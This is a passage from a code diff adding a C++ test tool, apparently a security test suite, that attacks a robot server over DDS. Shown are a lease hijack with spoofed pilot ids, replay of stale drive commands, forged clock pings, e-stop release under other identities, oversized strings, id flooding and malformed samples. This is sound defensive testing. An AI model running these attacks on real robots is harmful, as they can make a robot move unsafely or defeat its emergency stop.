+           Motion() + " holder=" + witness_.Holder() +
+               Counters({"network.dropped_cmd_vel", "drive_safety.rejected_not_holder"}));
+  }
+
+  // 5. Hijack the live pilot: an exclusive writer of the highest strength, take requests, and
+  // commands under the pilot's own id with higher sequence numbers.
+  void HijackLivePilot() {
+    // The claimed lease (if the robot granted it) lapses once the attacker falls silent.
+    if (!WaitForHolder(options_.victim, 15s)) {
+      ReportError("hijack_live_pilot",
+                  "the victim did not get the lease back: holder=" + witness_.Holder());
+      return;
+    }
+    witness_.ResetWindowWhenStill();
+    std::vector<std::pair<Peer*, fdds::DataWriter*>> exclusive;
+    for (const Attacker& a : attackers_) {
+      fdds::DataWriterQos qos = CommandWriterQos();
+      qos.ownership().kind = fdds::EXCLUSIVE_OWNERSHIP_QOS;
+      qos.ownership_strength().value = 1'000'000;
+      exclusive.emplace_back(a.peer.get(),
+                             a.peer->Writer<msg::VelocityCommand_PubSubType>(kCommand, qos));
+    }
+    uint64_t sequence = 1'000'000;
+    const auto end = Clock::now() + 4s;
+    for (int tick = 0; Clock::now() < end; ++tick) {
+      const bool enable = tick >= 10;
+      for (const Attacker& a : attackers_) {
+        if (tick % 5 == 0) {
+          for (const std::string& id : Ids(a, {options_.victim})) WriteRequest(a.request, id, true);
+        }
+        for (const std::string& id : Ids(a, {options_.victim})) {
+          WriteCommand(a.command, id, sequence, WallNowNs(), enable ? 0.3 : 0, 0, enable);
+        }
+      }
+      for (const auto& [peer, writer] : exclusive) {
+        WriteCommand(writer, options_.victim, sequence, WallNowNs(), enable ? 0.3 : 0, 0, enable);
+      }
+      ++sequence;
+      std::this_thread::sleep_for(50ms);
+    }
+    size_t exclusive_matched = 0;
+    for (const auto& [peer, writer] : exclusive) {
+      exclusive_matched += Matched(writer);
+      WriteCommand(writer, options_.victim, sequence, WallNowNs(), 0, 0, false);
+    }
+    for (const Attacker& a : attackers_) {
+      WriteCommand(a.command, options_.victim, sequence + 1, WallNowNs(), 0, 0, false);
+    }
+    std::this_thread::sleep_for(300ms);
+    for (const auto& [peer, writer] : exclusive) peer->Delete(writer);
+    Report("hijack_live_pilot", Moved() || witness_.Holder() != options_.victim,
+           Motion() + " holder=" + witness_.Holder() +
+               " exclusive_writer_matched=" + std::to_string(exclusive_matched) +
+               Counters({"network.dropped_cmd_vel", "drive_safety.rejected_out_of_order"}));
+  }
+
+  // 6. Replay a command of the pilot seen earlier (or, when none could be read, one stamped
+  // 3 s ago) with higher sequence numbers, as a drive.
+  void ReplayStaleCommand() {
+    witness_.ResetWindowWhenStill();
+    std::this_thread::sleep_for(500ms);
+    int64_t stamp;
+    std::string source;
+    {
+      std::lock_guard<std::mutex> lock(mutex_);
+      if (replay_source_) {
+        stamp = Nanos(replay_source_->stamp());
+        source = "captured_sequence=" + std::to_string(replay_source_->sequence_number());
+      } else {
+        stamp = WallNowNs() - 3'000'000'000;
+        source = "none_captured_made_one_3s_old";
+      }
+    }
+    const int64_t stale_before = witness_.Counter("drive_safety", "rejected_stale");
+    int64_t offset_ns = 0;
+    DriveFor(2500ms, {options_.victim}, 0.3, 2'000'000, "",
+             [&] { return stamp + (offset_ns += 1000); });
+    witness_.WaitFreshHealth();
+    std::ostringstream age;
+    age << std::fixed << std::setprecision(1) << (WallNowNs() - stamp) / 1e9;
+    Report("replay_stale_command", Moved(),
+           Motion() + " replayed=" + source + " age_s=" + age.str() +
+               " rejected_stale=" + std::to_string(stale_before) + "->" +
+               std::to_string(witness_.Counter("drive_safety", "rejected_stale")) +
+               Counters({"network.dropped_cmd_vel"}));
+  }
+
+  // 7. Clock pings under the pilot's id that make its clock look 5 s behind the robot's, then
+  // commands stamped 5 s ago: with the poisoned offset they would look fresh.
+  void ForgedClockPings() {
+    witness_.ResetWindowWhenStill();
+    constexpr int64_t kShiftNs = 5'000'000'000;
+    uint64_t sequence = 5'000'000;
+    int64_t last_t0 = 0;
+    auto ping = [&] {
+      // t3 for the previous ping: its t0 plus the robot's own hold time (when the pong was
+      // read), so the exchange shows the smallest round trip of all and wins the estimate.
+      int64_t t3 = 0;
+      {
+        std::lock_guard<std::mutex> lock(mutex_);
+        auto it = pongs_.find(sequence - 1);
+        if (it != pongs_.end()) {
+          t3 = last_t0 + (Nanos(it->second.t2()) - Nanos(it->second.t1())) + 10'000;
+        } else if (last_t0 != 0) {
+          t3 = last_t0 + 200'000;
+        }
+      }
+      msg::ClockProbe_ p;
+      p.sequence_number(sequence);
+      last_t0 = WallNowNs() - kShiftNs;
+      p.t0(Stamp(last_t0));
+      p.t3(Stamp(t3));
+      for (const Attacker& a : attackers_) {
+        if (a.ping == nullptr) continue;
+        for (const std::string& id : Ids(a, {options_.victim})) {
+          p.sender_id(id);
+          a.ping->write(&p);
+        }
+      }
+      ++sequence;
+    };
+    const int64_t dropped_before = witness_.Counter("network", "dropped_clock_ping");
+    for (int i = 0; i < 150; ++i) {
+      ping();
+      std::this_thread::sleep_for(20ms);
+    }
+    const int64_t stale_before = witness_.Counter("drive_safety", "rejected_stale");
+    DriveFor(
+        3000ms, {options_.victim}, 0.3, 3'000'000, "", [&] { return WallNowNs() - kShiftNs; },
+        ping);
+    witness_.WaitFreshHealth();
+    Report("forged_clock_pings", Moved(),
+           Motion() + " pings_as=" + options_.victim +
+               " shift_s=5 dropped_clock_ping=" + std::to_string(dropped_before) + "->" +
+               std::to_string(witness_.Counter("network", "dropped_clock_ping")) +
+               " rejected_stale=" + std::to_string(stale_before) + "->" +
+               std::to_string(witness_.Counter("drive_safety", "rejected_stale")));
+  }
+
+  // 8. An observer engages the e-stop (which it may); then everyone tries to release it: as
+  // itself, as the lease holder (and the victim, should the lease be changing hands), as the
+  // claimed pilot.
+  void EstopReleaseWithoutTheHoldersIdentity() {
+    const std::string engager =
+        options_.observer_cert.empty() || options_.pki.empty() ? "carol" : options_.observer_cert;
+    for (int i = 0; i < 10 && !witness_.Estop(); ++i) {
+      for (const Attacker& a : attackers_) WriteEstop(a.estop, engager, true);
+      std::this_thread::sleep_for(200ms);
+    }
+    witness_.WaitFreshHealth();
+    if (!witness_.Estop()) {
+      ReportError("estop_release_as_observer", "could not engage the e-stop as " + engager);
+      return;
+    }
+    const int64_t refused_before = witness_.Counter("drive_safety", "estop_refused");
+    const std::string holder = witness_.Holder();
+    for (int i = 0; i < 10; ++i) {
+      for (const Attacker& a : attackers_) {
+        for (const std::string& id : Ids(a, {engager, holder, options_.victim, options_.claim})) {
+          WriteEstop(a.estop, id, false);
+        }
+      }
+      std::this_thread::sleep_for(200ms);
+    }
+    witness_.WaitFreshHealth();
+    Report("estop_release_as_observer", !witness_.Estop(),
+           "engaged_by=" + engager + " released_as=" + engager + "," + holder + "," +
+               options_.victim + "," + options_.claim + " estop_engaged=" +
+               (witness_.Estop() ? "1" : "0") + " estop_refused=" + std::to_string(refused_before) +
+               "->" + std::to_string(witness_.Counter("drive_safety", "estop_refused")) +
+               Counters({"network.dropped_estop"}));
+  }
+
+  bool RobotFine(std::string* evidence) const {
+    const bool alive = options_.robot_pid == 0 || Alive(options_.robot_pid);
+    std::ostringstream out;
+    out << "robot_alive=" << (alive ? 1 : 0) << " health_age_s=" << std::fixed
+        << std::setprecision(2) << witness_.HealthAgeS();
+    *evidence += out.str();
+    return alive && witness_.HealthAgeS() < 2.0;
+  }
+
+  void WriteRaw(const char* topic, const std::vector<uint8_t>& bytes) {
+    for (Attacker& a : attackers_) {
+      auto it = a.raw.find(topic);
+      if (it == a.raw.end()) continue;
+      std::vector<uint8_t> copy = bytes;
+      it->second->write(&copy);
+    }
+  }
+
+  // 9. Samples whose sender_id is 1 MB long, on every topic the robot reads.
+  void HugeStrings() {
+    const int64_t rss_before = RssKb(options_.robot_pid);
+    const std::string huge(1 << 20, 'A');
+    const std::string holder = witness_.Holder();
+    for (int i = 0; i < 3; ++i) {
+      const int64_t now = WallNowNs();
+      WriteRaw(kCommand, CdrBytes()
+                             .Time(now)
+                             .U64(9'000'000 + static_cast<uint64_t>(i))
+                             .String(huge)
+                             .F64(0.3)
+                             .F64(0)
+                             .Bool(true)
+                             .Take());
+      WriteRaw(kEstop, CdrBytes().Time(now).String(huge).Bool(false).Take());
+      WriteRaw(kRequest, CdrBytes().Time(now).String(huge).I32(1'000'000).Bool(true).Take());
+      WriteRaw(kPing, CdrBytes().String(huge).U64(1).Time(now).Time(0).Time(0).Time(0).Take());
+      std::this_thread::sleep_for(500ms);
+    }
+    std::this_thread::sleep_for(1s);
+    witness_.WaitFreshHealth();
+    const int64_t rss_after = RssKb(options_.robot_pid);
+    std::string evidence = "rss_kb=" + std::to_string(rss_before) + "->" +
+                           std::to_string(rss_after) + " holder=" + witness_.Holder() + " ";
+    const bool fine = RobotFine(&evidence);
+    Report("strings_1mb",
+           !fine || rss_after - rss_before > 64 * 1024 || witness_.Holder() != holder, evidence);
+  }
+
+  // 10. 10 000 distinct sender ids: take requests, clock pings and commands.
+  void DistinctIds() {
+    const int64_t rss_before = RssKb(options_.robot_pid);
+    const int64_t evicted_before = witness_.Counter("network", "clock_clients_evicted");
+    const std::string holder = witness_.Holder();
+    for (int i = 0; i < 10'000; ++i) {
+      char id[16];
+      std::snprintf(id, sizeof(id), "id%05d", i);
+      for (const Attacker& a : attackers_) {
+        WriteRequest(a.request, id, true);
+        if (a.ping != nullptr) {
+          msg::ClockProbe_ p;
+          p.sender_id(id);
+          p.sequence_number(1);
+          p.t0(Stamp(WallNowNs()));
+          a.ping->write(&p);
+        }
+        WriteCommand(a.command, id, 1, WallNowNs(), 0, 0, false);
+      }
+      if (i % 10 == 9) std::this_thread::sleep_for(2ms);
+    }
+    std::this_thread::sleep_for(1s);
+    witness_.WaitFreshHealth();
+    const int64_t rss_after = RssKb(options_.robot_pid);
+    std::string evidence = "rss_kb=" + std::to_string(rss_before) + "->" +
+                           std::to_string(rss_after) +
+                           " clock_clients_evicted=" + std::to_string(evicted_before) + "->" +
+                           std::to_string(witness_.Counter("network", "clock_clients_evicted")) +
+                           " holder=" + witness_.Holder() + " ";
+    const bool fine = RobotFine(&evidence);
+    Report("distinct_ids_10000",
+           !fine || rss_after - rss_before > 64 * 1024 || witness_.Holder() != holder, evidence);
+  }
+
+  // 11. Malformed samples: truncated CDR, lying string lengths, garbage, an empty payload, a
+  // wrong encapsulation, and another type's bytes on each topic.
+  void MalformedSamples() {
+    attackers_.front().peer->DeleteReaders();
+    witness_.ResetWindowWhenStill();
+    const bool estop_before = witness_.Estop();
+    const std::string holder = witness_.Holder();
+    const int64_t now = WallNowNs();
+    std::vector<std::vector<uint8_t>> samples;
+    std::vector<uint8_t> full =
+        CdrBytes().Time(now).U64(9'500'000).String(holder).F64(0.3).F64(0).Bool(true).Take();
+    samples.emplace_back(full.begin(), full.begin() + 10);                           // truncated
+    samples.push_back(CdrBytes().Time(now).U64(9'500'001).U32(0xFFFFFFF0u).Take());  // lying length
+    samples.push_back(CdrBytes().Time(now).U32(0x7FFFFFFFu).Take());
+    std::vector<uint8_t> garbage = {0x00, 0x01, 0x00, 0x00};
+    uint32_t x = 2463534242u;
+    for (int i = 0; i < 300; ++i) {
+      x ^= x << 13;
+      x ^= x >> 17;
+      x ^= x << 5;
+      garbage.push_back(static_cast<uint8_t>(x));
+    }
+    samples.push_back(garbage);
+    samples.push_back({0x00, 0x01, 0x00, 0x00});                          // header only
+    samples.push_back({0xFF, 0xFF, 0x00, 0x00, 1, 2, 3, 4, 5, 6, 7, 8});  // unknown encapsulation
+    samples.push_back(
+        CdrBytes().Time(now).String(holder).I32(1).Bool(false).Take());  // request bytes
+    samples.push_back(CdrBytes().String(holder).U64(1).Time(now).Time(0).Time(0).Time(0).Take());
+    for (int round = 0; round < 5; ++round) {
+      for (const auto& s : samples) {
+        for (const char* topic : {kCommand, kEstop, kRequest, kPing}) WriteRaw(topic, s);
+      }
+      std::this_thread::sleep_for(200ms);
+    }
+    std::this_thread::sleep_for(1s);
+    witness_.WaitFreshHealth();
+    std::string evidence = "samples=" + std::to_string(samples.size() * 4 * 5) + " " + Motion() +
+                           " estop=" + (estop_before ? "1" : "0") + "->" +
+                           (witness_.Estop() ? "1" : "0") + " holder=" + witness_.Holder() + " ";
+    const bool fine = RobotFine(&evidence);
+    Report("malformed_samples",
+           !fine || Moved() || witness_.Estop() != estop_before || witness_.Holder() != holder,
+           evidence);
+  }
+
+  Options options_;
+  std::unique_ptr<Peer> witness_peer_;
+  Witness witness_;
+  std::vector<Attacker> attackers_;
+  std::atomic<int> heard_video_{0}, heard_scan_{0}, heard_health_{0}, heard_odom_{0};
+  std::mutex mutex_;
+  int heard_commands_ = 0;
+  std::optional<msg::VelocityCommand_> captured_;  // the victim's latest command
+  std::optional<msg::VelocityCommand_> replay_source_;
+  std::map<uint64_t, msg::ClockProbe_> pongs_;
+  int drives_ = 0;
+};
+
+int Main(int argc, char** argv) {
+  CLI::App app{"attacker: attacks robot_server over DDS and reports what worked (tests)"};
+  Suite::Options options;
+  app.add_option("--domain", options.domain, "DDS domain id")->check(CLI::Range(0, 232));
+  app.add_option("--pki", options.pki, "directory of a make_pki.sh PKI: attack with insiders too");
+  app.add_option("--pilot-cert", options.pilot_cert, "a pilot certificate's name in --pki");
+  app.add_option("--observer-cert", options.observer_cert, "an observer certificate's name");
+  app.add_option("--witness-cert", options.witness_cert,
+                 "certificate of the participant that watches the robot");
+  app.add_option("--victim", options.victim, "the live pilot's id (holds the lease)");
+  app.add_option("--claim", options.claim, "a stronger pilot id of the role table, no certificate");
+  app.add_option("--robot-pid", options.robot_pid, "robot_server's process id (memory, liveness)");
+  CLI11_PARSE(app, argc, argv);
+  if (!options.pki.empty() && options.witness_cert.empty()) {
+    std::cerr << "attacker: --pki needs --witness-cert\n";
+    return 2;
+  }
+  Suite suite(options);
+  return suite.Run();
+}
+
+}  // namespace
+}  // namespace attacker
+
+int main(int argc, char** argv) {
+  const int status = attacker::Main(argc, argv);
+  std::cout.flush();
+  // The report is out; end without static destructors, as mostar programs do (dds::EndProcess).
+  std::_Exit(status);
+}
